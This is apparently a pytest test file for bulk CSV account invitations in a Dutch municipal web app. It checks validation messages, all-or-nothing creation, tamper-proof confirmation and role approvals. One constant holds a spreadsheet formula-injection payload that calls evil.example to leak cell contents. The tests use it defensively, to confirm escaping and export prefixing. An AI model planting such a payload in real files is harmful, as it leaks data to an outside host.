"""Inviting many accounts from a CSV file: a dry run with a message per row and column, then
all rows or none, each exactly like a single account made on the admin pages (activation link
by e-mail, content roles waiting for a second person). Only the admin reaches it."""

import base64
import csv
import io
import re
from html import unescape

import pytest
from sqlalchemy import func, select

from casustafel.admin import bulk_services, services
from casustafel.extensions import db
from casustafel.models import ActivationToken, AuditEvent, Department, Notification, RoleRequest, User
from casustafel.models.roles import Role
from tests.conftest import csrf_from, login
from tests.test_admin import activation_link, choose_password

PAGE = "/beheer/gebruikers/uitnodigen"
CONFIRM = "/beheer/gebruikers/uitnodigen/bevestigen"
INJECTION = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
HIDDEN = re.compile(r'<input[^>]*\bname="(content|seal)"[^>]*\bvalue="([^"]*)"')


def csv_bytes(rows, *, delimiter=";", bom=True, header=("e-mail", "naam", "afdeling", "rollen")) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")  # as Excel writes it
    if header:
        writer.writerow(header)
    writer.writerows(rows)
    return ("\ufeff" if bom else "").encode() + buffer.getvalue().encode("utf-8")


def upload(client, data: bytes, filename="collega's.csv"):
    token = csrf_from(client.get(PAGE))
    return client.post(PAGE, data={"csrf_token": token, "file": (io.BytesIO(data), filename)},
                       content_type="multipart/form-data")


def hidden(page) -> dict:
    return dict(HIDDEN.findall(page.get_data(as_text=True)))


def confirm(client, page, **override):
    fields = {"csrf_token": csrf_from(page), **hidden(page), **override}
    return client.post(CONFIRM, data=fields)


def user_count() -> int:
    return db.session.scalar(select(func.count()).select_from(User))


def events(action) -> list[AuditEvent]:
    """Events of someone on the pages (make_user creates its accounts without an actor)."""
    return db.session.scalars(select(AuditEvent).where(AuditEvent.action == action, AuditEvent.actor_id.is_not(None))
                              .order_by(AuditEvent.seq)).all()


def text(response) -> str:
    return unescape(re.sub(r"\s+", " ", response.get_data(as_text=True)))


@pytest.fixture
def departments(app):
    for name in ("Openbare orde", "Vergunningen", "Oude afdeling"):
        db.session.add(Department(name=name, active=name != "Oude afdeling"))
    db.session.commit()


@pytest.fixture
def admin(app, make_user):
    client = app.test_client()
    user = make_user("admin", name="Ada Beheer")
    assert login(client, user.email).status_code == 200
    client.user = user
    return client


CLEAN = [
    ("zoe.deboer@gemeente.test", "Zoë de Boer", "Openbare orde", "melder"),
    ("IJSBRAND@Gemeente.test", "Ĳsbrand van ’t Hoff", "vergunningen", "Regisseur / voorzitter"),
    ("quote@gemeente.test", "Mevr. ‘Toos’ \"de Tester\"; afd. B", "", "melder|Deelnemer casustafel"),
    ("injectie@gemeente.test", INJECTION, "Openbare orde", "reporter"),
    ("privacy@gemeente.test", "Pim Privacy", "", "privacy_officer, melder"),
]


def test_a_clean_file_is_shown_first_and_then_invited_like_single_accounts(admin, departments):
    before = user_count()
    page = upload(admin, csv_bytes(CLEAN))
    shown = text(page)
    assert page.status_code == 200
    assert "Het bestand is in orde: 5 accounts kunnen worden aangemaakt" in shown
    assert "Zoë de Boer" in shown and "Ĳsbrand van ’t Hoff" in shown and "Mevr. ‘Toos’ \"de Tester\"; afd. B" in shown
    assert "nieuw account, rol medewerker (melder)" in shown
    assert "nieuw account, rol regisseur / voorzitter wacht op goedkeuring (vier ogen)" in shown
    assert "rol medewerker (melder), rol deelnemer casustafel wacht op goedkeuring (vier ogen)" in shown
    assert INJECTION not in page.get_data(as_text=True)  # escaped in the page, never markup
    assert user_count() == before and not events("user.created")  # a dry run changes nothing

    done = confirm(admin, page)
    assert done.status_code == 302 and done.headers["Location"].endswith("/beheer/gebruikers")
    assert "5 accounts zijn aangemaakt" in text(admin.get("/beheer/gebruikers"))
    assert user_count() == before + 5
    by_mail = {u.email: u for u in db.session.scalars(select(User).where(User.id != admin.user.id))}
    zoe, ijsbrand, toos = by_mail["zoe.deboer@gemeente.test"], by_mail["ijsbrand@gemeente.test"], by_mail[
        "quote@gemeente.test"]
    assert zoe.display_name == "Zoë de Boer" and zoe.department.name == "Openbare orde" and zoe.roles == {Role.REPORTER}
    assert ijsbrand.department.name == "Vergunningen" and ijsbrand.roles == set()
    assert toos.display_name == "Mevr. ‘Toos’ \"de Tester\"; afd. B" and toos.department is None
    assert by_mail["injectie@gemeente.test"].display_name == INJECTION  # stored as the text it is

    # Content roles wait for a second person; granted at once: melder only.
    requests = db.session.scalars(select(RoleRequest).where(RoleRequest.status == "open")).all()
    assert sorted((r.user.email, r.role) for r in requests) == [
        ("ijsbrand@gemeente.test", "coordinator"), ("privacy@gemeente.test", "privacy_officer"),
        ("quote@gemeente.test", "member")]
    assert all(r.requested_by_id == admin.user.id and not services.may_decide(admin.user, r) for r in requests)

    # One activation mail each, as for a single account; no password anywhere.
    mails = db.session.scalars(select(Notification)).all()
    assert sorted(m.recipient_id for m in mails) == sorted(u.id for u in by_mail.values())
    assert all("/activeren/" in m.body and "Zoë" not in m.body for m in mails)
    assert db.session.scalar(select(func.count()).select_from(ActivationToken)) == 5
    assert len(events("user.created")) == 5 and len(events("user.activation_sent")) == 5
    assert len(events("user.role_requested")) == 3
    (bulk,) = events("user.bulk_invited")
    assert bulk.actor_id == admin.user.id and bulk.reason_code == "5"

    # The link works: Zoë chooses a password and logs in, with the melder role only.
    assert choose_password(admin.application, activation_link(zoe)).status_code == 302
    assert login(admin.application.test_client(), zoe.email).request.path == "/"


def test_the_same_file_twice_is_refused_the_second_time(admin, departments):
    confirm(admin, upload(admin, csv_bytes(CLEAN[:1])))
    again = text(upload(admin, csv_bytes(CLEAN[:1])))
    assert "Regel 2, kolom e-mail: Er bestaat al een account met dit e-mailadres." in again


def test_every_problem_is_named_by_row_and_column_and_nothing_is_created(admin, departments, make_user):
    make_user("reporter", email="bestaat@gemeente.test")
    rows = [
        ("goed@gemeente.test", "Goede Regel", "Openbare orde", "melder"),  # 2
        ("Goed@Gemeente.test", "Dubbel", "", "melder"),  # 3: the same address, other case
        ("bestaat@gemeente.test", "Al Bekend", "", "melder"),  # 4
        ("rol@gemeente.test", "Onbekende Rol", "", "melder|burgemeester"),  # 5
        ("afdeling@gemeente.test", "Onbekende Afdeling", "Sociaal domein", "melder"),  # 6
        ("leeg@gemeente.test", "   ", "", "melder"),  # 7
        ("geen-adres", "Geen Adres", "", "melder"),  # 8
        ("lang@gemeente.test", "L" * 121, "", "melder"),  # 9
        ("twee@gemeente.test", "Twee Petten", "", "beheerder|regisseur"),  # 10
        ("oud@gemeente.test", "Oude Afdeling", "oude afdeling", "melder"),  # 11
        ("geenrol@gemeente.test", "Geen Rol", "", ""),  # 12
        ("x" * 250 + "@gemeente.test", "Te Lang Adres", "", "melder"),  # 13
    ]
    before = user_count()
    page = upload(admin, csv_bytes(rows, delimiter=",", bom=False))
    shown = text(page)
    assert page.status_code == 200
    expected = [
        "Regel 3, kolom e-mail: Dit e-mailadres staat ook op regel 2.",
        "Regel 4, kolom e-mail: Er bestaat al een account met dit e-mailadres.",
        "Regel 5, kolom rol(len): Onbekende rol ‘burgemeester’.",
        "Regel 6, kolom afdeling: Onbekende afdeling ‘Sociaal domein’.",
        "Regel 7, kolom naam: Vul de naam in.",
        "Regel 8, kolom e-mail: ‘geen-adres’ is geen geldig e-mailadres",
        "Regel 9, kolom naam: De naam is 121 tekens lang; gebruik hooguit 120 tekens.",
        "Regel 10, kolom rol(len): Een functioneel beheerder kan niet ook regisseur",
        "Regel 11, kolom afdeling: De afdeling ‘Oude afdeling’ is niet meer in gebruik.",
        "Regel 12, kolom rol(len): Vul minstens één rol in",
        "Regel 13, kolom e-mail: Het e-mailadres is langer dan 254 tekens.",
    ]
    for message in expected:
        assert message in shown, message
    assert "12 fouten" not in shown and "11 fouten" in shown
    assert "Er wordt niets aangemaakt zolang het bestand fouten heeft" in shown
    assert "Regel 2," not in shown  # the good row has no message, and is not created either
    assert hidden(page) == {} and "Uitnodigen</button>" not in shown  # no way on but a new file
    assert user_count() == before and not db.session.scalars(select(Notification)).all()


def test_a_tampered_or_foreign_confirmation_creates_nothing(admin, departments, app, make_user):
    """The admin (or anyone in between) cannot confirm other text than was checked, another
    admin cannot confirm this admin's check, and a non-admin cannot confirm at all."""
    page = upload(admin, csv_bytes(CLEAN[:2]))
    fields = hidden(page)
    sneaky = base64.b64encode(csv_bytes([("stiekem@gemeente.test", "Stiekem", "", "regisseur")], bom=False)).decode()
    before = user_count() + 2  # the other admin and the privacy officer below
    refused = confirm(admin, page, content=sneaky)
    assert refused.status_code == 302 and refused.headers["Location"].endswith(PAGE)
    assert "verlopen of het bestand is onderweg veranderd" in text(admin.get(PAGE))
    assert confirm(admin, page, content="@@ geen base64 @@").status_code == 302

    other = app.test_client()
    assert login(other, make_user("admin").email).status_code == 200
    assert other.post(CONFIRM, data={"csrf_token": csrf_from(other.get(PAGE)), **fields}).status_code == 302

    officer = app.test_client()  # approves content roles, but invites nobody
    assert login(officer, make_user("privacy_officer").email).status_code == 200
    assert officer.post(CONFIRM, data={"csrf_token": csrf_from(officer.get("/")), **fields}).status_code == 403
    assert officer.post(PAGE, data={"csrf_token": csrf_from(officer.get("/")),
                                    "file": (io.BytesIO(csv_bytes(CLEAN)), "a.csv")}).status_code == 403
    assert user_count() == before and not events("user.bulk_invited")

    # The untouched confirmation still works, once.
    assert confirm(admin, page).status_code == 302
    assert user_count() == before + 2
    assert confirm(admin, page).status_code == 200  # now every row exists: shown again, nothing made
    assert user_count() == before + 2 and len(events("user.bulk_invited")) == 1


def test_a_row_that_became_invalid_after_the_dry_run_stops_the_whole_file(admin, departments, make_user):
    page = upload(admin, csv_bytes(CLEAN))
    make_user("reporter", email="ijsbrand@gemeente.test")  # a colleague made one meanwhile
    before = user_count()
    again = confirm(admin, page)
    assert again.status_code == 200
    assert "Regel 3, kolom e-mail: Er bestaat al een account met dit e-mailadres." in text(again)
    assert user_count() == before and not db.session.scalars(select(Notification)).all()
    assert not db.session.scalars(select(RoleRequest)).all()


def _many(n):
    return [(f"collega{i}@gemeente.test", f"Collega Nummer {i}", "", "melder") for i in range(n)]


@pytest.mark.parametrize(("data", "message"), [
    (csv_bytes(_many(1001)), "Het bestand heeft 1001 gebruikers; u kunt er hooguit 1000 tegelijk uitnodigen."),
    ("e-mail;naam;afdeling;rollen\r\nzoe@gemeente.test;Zoë Müller;;melder\r\n".encode("cp1252"),
     "Het bestand is niet als UTF-8 opgeslagen (regel 2"),
    (None, "Kies een CSV-bestand."),  # the button pressed without choosing a file
    (b"", "Het bestand is leeg."),
    (b"\xef\xbb\xbf\r\n \r\n", "Het bestand is leeg."),
    (b"PK\x03\x04\x14\x00\x06\x00rest of a workbook", "Dit is een Excel-werkmap, geen CSV-bestand."),
    (b"e-mail;naam;rollen\r\n", "Het bestand heeft een kopregel maar geen gebruikers."),
    (csv_bytes(_many(2), header=None), "De eerste regel moet de kolomnamen bevatten"),
    (csv_bytes(_many(2), header=("e-mail", "naam", "afdeling")), "De kopregel mist de kolom ‘rol(len)’."),
    (csv_bytes(_many(2), header=("e-mail", "naam", "telefoon", "rollen")), "Onbekende kolom ‘telefoon’"),
    (b"e-mail;naam;afdeling;rollen\r\na@gemeente.test;\"Nooit gesloten;;melder\r\n",
     "is geen geldige CSV-regel"),
    (b"x" * (bulk_services.MAX_BYTES + 1), "Het bestand is groter dan 512 kB."),
    (b"e-mail;naam;afdeling;rollen\r\na@gemeente.test;Een\x00Nul;;melder\r\n", "Dit is geen tekstbestand."),
])
def test_a_file_that_cannot_be_used_gets_one_clear_message(admin, departments, data, message):
    before = user_count()
    if data is not None:
        page = upload(admin, data)
    else:
        page = admin.post(PAGE, data={"csrf_token": csrf_from(admin.get(PAGE))}, content_type="multipart/form-data")
    assert page.status_code == 200
    assert message in text(page)
    assert hidden(page) == {}
    assert user_count() == before


def test_a_full_file_of_1000_rows_is_accepted_and_invited(admin):
    before = user_count()
    page = upload(admin, csv_bytes(_many(1000)))
    assert "1000 accounts kunnen worden aangemaakt" in text(page)
    assert confirm(admin, page).status_code == 302
    assert user_count() == before + 1000
    assert db.session.scalar(select(func.count()).select_from(Notification)) == 1000
    assert events("user.bulk_invited")[0].reason_code == "1000"


def test_a_name_that_looks_like_a_formula_stays_text_in_the_log_export(admin, departments, app, make_user):
    """The injected name reaches a CSV export once its account acts (here: it chooses its
    password); the export prefixes it, so a spreadsheet shows it as text."""
    confirm(admin, upload(admin, csv_bytes([CLEAN[3]])))
    invited = db.session.scalar(select(User).where(User.email == "injectie@gemeente.test"))
    assert choose_password(app, activation_link(invited)).status_code == 302
    officer = app.test_client()
    assert login(officer, make_user("privacy_officer").email).status_code == 200
    export = officer.get("/logboek/export.csv")
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.get_data(as_text=True).lstrip("\ufeff")), delimiter=";")
             for cell in row]
    assert "'" + INJECTION in cells
    assert INJECTION not in cells


def test_roles_are_read_as_codes_labels_or_short_dutch_names():
    lookup = bulk_services.role_lookup()
    for name, role in [("reporter", Role.REPORTER), ("Medewerker (melder)", Role.REPORTER), ("MELDER", Role.REPORTER),
                       ("deelnemer", Role.MEMBER), ("Regisseur  /  voorzitter", Role.COORDINATOR),
                       ("coördinator", Role.COORDINATOR), ("Privacyfunctionaris", Role.PRIVACY_OFFICER),
                       ("functioneel beheerder", Role.ADMIN)]:
        assert lookup[" ".join(name.split()).casefold()] == role, name
